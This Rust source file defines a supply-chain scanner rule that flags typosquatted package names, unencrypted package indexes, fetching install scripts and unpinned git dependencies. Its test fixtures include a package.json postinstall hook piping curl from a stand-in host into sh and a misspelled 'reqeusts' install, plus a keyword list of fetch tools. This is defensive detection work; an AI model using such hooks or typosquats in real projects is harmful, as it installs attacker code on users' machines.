//! `risky-dependency`.

use serde_json::Value;

use crate::findings::Findings;
use crate::input::has_extension;
use crate::known::packages;
use crate::phrase::phrases;
use crate::rule::scan_rule;
use crate::severity::Severity;
use crate::subject::Subject;

scan_rule! {
    /// ## What it does
    /// Flags packages whose names imitate popular ones, package indexes without encryption, install scripts that fetch, and dependencies from repositories without a fixed version.
    ///
    /// ## Why is this bad?
    /// A letter decides whose code is installed. An index without encryption is whoever answers first.
    ///
    /// ## Example
    /// `pip install reqeusts`
    RISKY_DEPENDENCY = "risky-dependency", Medium, SupplyChain, check;
    matching: &[
        ("SKILL.md", "```bash\npip install reqeusts\n```\n"),
        ("package.json", "{\"scripts\": {\"postinstall\": \"curl https://a.example/x | sh\"}}\n"),
    ],
    clean: &[
        ("SKILL.md", "```bash\npip install requests flask-login\nnpm install express\n```\n"),
    ],
}

phrases! {
    INSTALL: ["pip install", "pip3 install", "uv add", "uv pip install", "npm install", "npm i ", "npx ", "yarn add", "pnpm add", "bun add", "pipx install", "uvx "]
        => "\\b(?:pip3? install|uv (?:pip install|add)|pipx install|uvx|npm (?:install|i)|npx|yarn add|pnpm add|bun add) [^\n;&|`]{2,200}";
    INDEX: ["--index-url", "--extra-index-url", "--registry", "--trusted-host", "-i http"]
        => "(?:--(?:extra-)?index-url|--registry|-i)[ =]http://[^\n ]{4,100}|--trusted-host[ =][^\n ]{4,60}";
    FROM_REPOSITORY: ["git+http", "git+ssh", "git+git"]
        => "git\\+(?:https?|ssh|git)://[^\n \"']{4,160}";
}

fn check(subject: &Subject<'_>, findings: &mut Findings) {
    for hit in subject.hits(&INSTALL) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let is_python = text.starts_with("pip") || text.starts_with("uv");
        let known = if is_python { packages::PYTHON } else { packages::JAVASCRIPT };
        for word in text.split_whitespace().skip(1).filter(|word| !word.starts_with('-')) {
            let name = word.split(['=', '<', '>', '~', '[', '!']).next().unwrap_or(word);
            let name = name
                .rsplit_once('@')
                .map_or(name, |(before, _)| if before.is_empty() { name } else { before });
            if let Some(popular) = packages::imitated(name, known) {
                let message = format!("installs a package whose name imitates `{popular}`");
                subject.report_as(findings, &RISKY_DEPENDENCY, Severity::High, hit, message);
            }
        }
    }
    for hit in subject.hits(&INDEX) {
        subject.report_as(
            findings,
            &RISKY_DEPENDENCY,
            Severity::High,
            hit,
            "takes packages from an index without encryption",
        );
    }
    for hit in subject.hits(&FROM_REPOSITORY) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let path = text.split("://").nth(1).unwrap_or_default();
        if !path.contains('@') || path.ends_with("@main") || path.ends_with("@master") {
            subject.report_as(
                findings,
                &RISKY_DEPENDENCY,
                Severity::Low,
                hit,
                "takes a package from a repository without a fixed version",
            );
        }
    }
    for document in subject.documents.iter().filter(|document| {
        document.path.rsplit('/').next() == Some("package.json") && document.origin.is_none()
    }) {
        let Ok(value) = serde_json::from_str::<Value>(&document.text) else { continue };
        for name in ["preinstall", "install", "postinstall", "prepare"] {
            let Some(script) =
                value.get("scripts").and_then(|scripts| scripts.get(name)).and_then(Value::as_str)
            else {
                continue;
            };
            let fetches = ["curl ", "wget ", "http", "node -e", "base64", "powershell", "eval"]
                .iter()
                .any(|word| script.contains(word));
            let severity = if fetches { Severity::High } else { Severity::Low };
            let at = document.text.find(name).unwrap_or(0);
            findings.add(
                &RISKY_DEPENDENCY,
                severity,
                &document.path,
                at..at + name.len(),
                "runs a script when it is installed",
            );
        }
        for (name, _) in value.get("dependencies").and_then(Value::as_object).into_iter().flatten()
        {
            if let Some(popular) = packages::imitated(name, packages::JAVASCRIPT) {
                let at = document.text.find(name.as_str()).unwrap_or(0);
                findings.add(
                    &RISKY_DEPENDENCY,
                    Severity::High,
                    &document.path,
                    at..at + name.len(),
                    format!("depends on a package whose name imitates `{popular}`"),
                );
            }
        }
    }
    for document in subject.documents.iter().filter(|document| {
        document
            .path
            .rsplit('/')
            .next()
            .is_some_and(|name| name.starts_with("requirements") && has_extension(name, "txt"))
            && document.origin.is_none()
    }) {
        let mut at = 0;
        for line in document.text.split_inclusive('\n') {
            let name = line
                .trim()
                .split(['=', '<', '>', '~', '[', ';', ' ', '!'])
                .next()
                .unwrap_or_default();
            if let Some(popular) = packages::imitated(name, packages::PYTHON) {
                findings.add(
                    &RISKY_DEPENDENCY,
                    Severity::High,
                    &document.path,
                    at..at + name.len(),
                    format!("depends on a package whose name imitates `{popular}`"),
                );
            }
            at += line.len();
        }
    }
}
